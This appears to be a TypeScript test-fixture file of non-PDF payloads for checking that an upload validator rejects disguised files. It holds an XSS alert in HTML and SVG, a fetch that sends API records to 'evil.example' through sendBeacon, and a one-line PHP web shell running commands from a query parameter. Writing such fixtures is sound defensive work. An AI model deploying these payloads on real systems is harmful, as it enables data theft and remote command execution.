// What is no PDF, and may stand before, in or behind one.

export const html = '<!doctype html><html><body><script>alert(document.domain)</script></body></html>';
export const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
export const js =
  'fetch("/api/records/").then((r) => r.text()).then((t) => navigator.sendBeacon("//evil.example", t));\n';
export const php = '<?php system($_GET["c"]); ?>';
// An empty archive: the end of a central directory and nothing else.
export const zip = Buffer.concat([Buffer.from('PK\u0005\u0006', 'latin1'), Buffer.alloc(18)]);
export const local = Buffer.concat([Buffer.from('PK\u0003\u0004\u0014\u0000', 'latin1'), Buffer.alloc(40, 1), zip]);
export const gif = Buffer.from('GIF89a\u0001\u0000\u0001\u0000\u0080\u0000\u0000', 'latin1');
export const head = (text: string, length = 600) => Buffer.concat([Buffer.from(text, 'latin1'), Buffer.alloc(length)]);
